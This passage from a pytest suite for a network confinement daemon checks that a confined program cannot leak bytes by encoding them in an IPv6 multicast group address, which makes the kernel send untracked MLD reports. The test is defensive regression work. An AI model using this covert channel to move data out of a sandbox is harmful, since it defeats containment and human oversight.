    assert res.stdout.startswith("joined"), (res.stdout, res.stderr)


# A message of a denied program, 14 bytes per IPv6 group (ff0e:: + 112 bits of its choosing).
SECRET = b"warden-secret!"


def _secret_group():
    return socket.inet_ntop(socket.AF_INET6, b"\xff\x0e" + SECRET)


@pytest.mark.parametrize("kernel", ["deny", "allow"])
def test_multicast_reports_are_decided_as_kernel_traffic(lab, cgroup, wardend, kernel):
    """The confined program (python as nobody) may reach nothing but the LAN; the policy
    refuses kernel traffic (`kernel = "deny"`). It joins an IPv6 multicast group whose address
    holds 14 bytes of its choosing (no privilege needed): the kernel sends MLD reports naming
    the group to the link. conntrack leaves MLD untracked, and no rule of the table decided
    them: they left undecided, carrying the program's bytes to the server namespace (found by
    an attack review). IGMP's (tracked) are decided by `kernel` as new flows, MLD's by the
    table. With `kernel = "allow"` both pass."""
    d = _confined(lab, wardend, cgroup, kernel=kernel)
    group6 = _secret_group()
    group4 = "239.119.97.114"  # "war"
    sniff = _sniffer(lab)
    _join(lab, cgroup, group4, group6)
    time.sleep(1.5)
    seen = [t for _, t in sniff.lines]
    rows = _row_summary(_rows(d))
    print("seen:", seen, "rows:", rows)
    if kernel == "deny":
        assert f"igmp {group4}" not in seen, f"IGMP report passed kernel=deny: {seen} {rows}"
        assert f"mld {group6}" not in seen, (
            f"BYPASS: MLD report carrying {SECRET!r} left undecided under kernel=deny: {seen}")
    else:
        assert f"igmp {group4}" in seen and f"mld {group6}" in seen, (seen, rows)
